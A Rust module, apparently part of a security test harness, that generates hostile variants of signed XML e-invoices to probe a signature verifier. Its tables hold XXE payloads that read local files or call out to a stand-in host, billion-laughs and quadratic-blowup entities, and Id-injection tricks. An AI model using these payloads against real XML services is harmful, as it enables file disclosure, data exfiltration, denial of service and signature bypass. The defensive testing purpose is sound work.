//! Document types and entities: files read, requests sent, memory filled, attributes added behind the
//! verifier's back (CVE-2013-4517 and many others).

use super::stage::Stage;
use super::{Attack, Carrier, Class};
use crate::error::Result;

/// The idea's name, what it shows, the document type declaration, and the entity used inside a signed field.
const TYPES: &[(&str, &str, &str, &str)] = &[
    ("internal", "an entity declared in the file", "<!DOCTYPE r [<!ENTITY e \"9\">]>", "&e;"),
    (
        "external-file",
        "an entity that reads a file",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>",
        "&e;",
    ),
    (
        "external-http",
        "an entity that sends a request",
        "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://files.example/e\">]>",
        "&e;",
    ),
    (
        "public",
        "a public document type fetched from elsewhere",
        "<!DOCTYPE r PUBLIC \"-//X//Y//EN\" \"http://files.example/r.dtd\">",
        "",
    ),
    (
        "parameter",
        "a parameter entity that sends what it read",
        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://files.example/p.dtd\"> %p;]>",
        "",
    ),
    (
        "laughs",
        "entities that grow to a billion words",
        "<!DOCTYPE r [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">\
         <!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">\
         <!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;\">]>",
        "&g;&g;&g;&g;&g;&g;&g;&g;",
    ),
    (
        "recursive",
        "entities that hold each other",
        "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>",
        "&a;",
    ),
    (
        "default-id",
        "an attribute default that gives every element an Id",
        "<!DOCTYPE r [<!ATTLIST TTChung Id CDATA \"gia-mao\">]>",
        "",
    ),
    (
        "typed-id",
        "another attribute declared to be the Id",
        "<!DOCTYPE r [<!ATTLIST DLHDon So ID #IMPLIED>]>",
        "",
    ),
    ("empty", "a document type without anything in it", "<!DOCTYPE r>", ""),
    ("lower-case", "a document type in small letters", "<!doctype r [<!ENTITY e \"9\">]>", "&e;"),
    ("notation", "a notation with a program behind it", "<!DOCTYPE r [<!NOTATION n SYSTEM \"n.exe\">]>", ""),
];

/// Entities used without being declared.
const NAMES: &[(&str, &str, &str, &str)] = &[
    ("page-entity", "xml.entity", "an entity of web pages", "&nbsp;"),
    ("unknown-entity", "xml.entity", "an entity nobody declared", "&tong;"),
    ("wrong-case", "xml.entity", "a predefined entity in capitals", "&LT;"),
    ("parameter-use", "xml.entity", "a long name of letters from outside ASCII", "&tổng;"),
];

pub(super) fn add(stage: &Stage, list: &mut Vec<Attack>) -> Result<()> {
    if !matches!(
        stage.carrier,
        Carrier::Invoice | Carrier::Batch | Carrier::Declaration | Carrier::Notice | Carrier::Order
    ) {
        return Ok(());
    }
    let field = stage.field_text()?;
    let open = field.split_inclusive('>').next().unwrap_or_default().to_owned();
    let root = format!("<{}", stage.root.name);
    // The five entities that every reader knows; the text is the same as the signed one.
    let twin = stage.altered(|text| text.replacen("UTF-8\"?>", "UTF-8\"?><!-- &e; <!DOCTYPE r> -->", 1))?;
    let mut push = |idea: &str, rule: &'static str, shows: &'static str, bytes: Vec<u8>| {
        list.push(Attack::on(stage, Class::Entities, idea, &[rule], shows, bytes).with_twin(twin.clone()));
    };
    for (idea, shows, declaration, used) in TYPES {
        let bytes = stage.altered(|text| {
            let typed = text.replacen(&root, &format!("{declaration}{root}"), 1);
            typed.replacen(&open, &format!("{open}{used}"), 1)
        })?;
        push(idea, "xml.doctype", shows, bytes);
    }
    let long = format!("<!DOCTYPE r [<!ENTITY e \"{}\">]>", "9".repeat(20_000));
    let bytes = stage.altered(|text| {
        text.replacen(&root, &format!("{long}{root}"), 1).replacen(
            &open,
            &format!("{open}{}", "&e;".repeat(2_000)),
            1,
        )
    })?;
    push("quadratic", "xml.doctype", "one long entity used two thousand times", bytes);
    let bytes = stage.altered(|text| format!("{text}<!DOCTYPE r>"))?;
    push("after", "xml.doctype", "a document type after the document", bytes);
    let bytes = stage.altered(|text| text.replacen(&open, &format!("<!DOCTYPE r>{open}"), 1))?;
    push("inside", "xml.doctype", "a document type inside the signed data", bytes);
    for (idea, rule, shows, used) in NAMES {
        let bytes = stage.altered(|text| text.replacen(&open, &format!("{open}{used}"), 1))?;
        push(idea, rule, shows, bytes);
    }
    if !stage.has_id() {
        return Ok(());
    }
    let bytes = stage.altered(|text| {
        let id = stage.data_tag().unwrap_or_default();
        text.replacen(&id, &id.replacen("\"", "\"&e;", 1), 1)
    })?;
    push("attribute", "xml.entity", "an entity inside the signed data's Id", bytes);
    Ok(())
}
